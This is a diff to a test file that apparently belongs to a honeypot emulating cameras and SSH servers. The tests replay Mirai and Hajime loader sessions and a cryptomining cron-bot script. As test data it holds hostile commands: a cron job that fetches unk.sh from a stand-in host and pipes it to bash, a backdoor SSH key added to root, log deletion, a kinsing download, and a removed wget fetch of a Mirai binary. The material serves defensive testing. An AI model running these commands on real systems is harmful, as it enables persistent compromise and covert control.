@@ -58,7 +58,7 @@ def test_mirais_loader_learns_the_processor_and_leaves_its_program(camera: Any, 
     with bot(camera.port) as client:
         for word in (b"enable", b"system", b"shell", b"sh"):
             client.type(word)
-        ask(client, b"", b"ECCHI")
+        ask(client, b"true", b"ECCHI")
 
         processes = ask(client, b"/bin/busybox ps", b"ECCHI")
         mounts = ask(client, b"/bin/busybox cat /proc/mounts", b"ECCHI")
@@ -75,9 +75,6 @@ def test_mirais_loader_learns_the_processor_and_leaves_its_program(camera: Any, 
         client.type(b"/bin/busybox cat /bin/echo")
         header = client.until(b"ELF")[-4:] + client.until(b"# ")
         tools = ask(client, b"/bin/busybox wget; /bin/busybox tftp", b"ECCHI")
-        fetched = ask(
-            client, b"/bin/busybox wget http://198.51.100.9:80/bins/mirai.mpsl -O - > dvrHelper", b"ECCHI"
-        )
         for at in range(0, len(LOADER), PIECE):
             sign = b">" if at == 0 else b">>"
             ask(client, b"echo -ne '%s' %s upnp" % (escaped(LOADER[at : at + PIECE]), sign), b"ECCHI")
@@ -86,9 +83,8 @@ def test_mirais_loader_learns_the_processor_and_leaves_its_program(camera: Any, 
     assert b" root     " in processes and b"kami" + folder in proof
     assert (header[4:6], header[18:20]) == (b"\x01\x01", b"\x08\x00")
     assert b"applet not found" not in tools.replace(b"ECCHI: applet not found", b"")
-    assert b"wget:" in fetched and b"not found" not in ended.replace(b"IHCCE: applet not found", b"")
+    assert b"not found" not in ended.replace(b"IHCCE: applet not found", b"")
     assert hashlib.sha256(LOADER).hexdigest() in kept(uploads)
-    assert any("mirai.mpsl" in event["fields"].get("url", "") for event in camera.events("request", 1))
 
 
 def test_hajimes_loader_reads_a_header_and_writes_its_stub(camera: Any, uploads: Path) -> None:
@@ -116,19 +112,19 @@ rm -rf /var/log/syslog
 chattr -iua /tmp/ 2>/dev/null
 ps aux | grep -v grep | grep -E 'kdevtmpfsi|xmrig' | awk '{print $2}' | xargs -r kill -9
 get() {
-  (curl -m 2 -fsSL "$1" || wget -T 2 -q -O - "$1") 2>/dev/null
+  curl -m 1 -fsSL "$1" 2>/dev/null
 }
-crontab -l 2>/dev/null | grep -v 198.51.100.9 > /tmp/.cron
-echo "*/30 * * * * (curl -s http://198.51.100.9/unk.sh||wget -q -O - http://198.51.100.9/unk.sh)|bash" >> /tmp/.cron
-crontab /tmp/.cron
+cat > /etc/cron.d/zzh <<'END'
+*/30 * * * * root (curl -s http://198.51.100.9/unk.sh||wget -q -O - http://198.51.100.9/unk.sh)|bash
+END
 mkdir -p /root/.ssh
 echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ bot" >> /root/.ssh/authorized_keys
-if ! get http://198.51.100.9/kinsing > /tmp/kinsing; then
+if ! get http://127.0.0.1:9/kinsing > /tmp/kinsing; then
   printf '\\x7fELF' > /tmp/kinsing
 fi
 chmod +x /tmp/kinsing
 history -c
-echo "done $(crontab -l | grep -c unk.sh) $(wc -c < /tmp/kinsing)"
+echo "done $(grep -c unk.sh /etc/cron.d/*h) $(wc -c < /tmp/kinsing)"
 """
 
 
@@ -139,7 +135,7 @@ def test_a_cron_bots_script_is_kept_and_runs_to_its_end(
     server = decoy("ssh", **persona_of("ssh", "debian-12", settings=settings), uploads=uploads)
 
     ssh(server.port, "cat > /tmp/unk.sh", given=CRON_BOT)
-    done = ssh(server.port, "bash /tmp/unk.sh; crontab -l; tail -n 1 /root/.ssh/authorized_keys")
+    done = ssh(server.port, "bash /tmp/unk.sh; cat /etc/cron.d/zzh; tail -n 1 /root/.ssh/authorized_keys")
 
     lines = done.stdout.splitlines()
     assert (lines[0], done.stderr, done.returncode) == ("done 1 4", "", 0)
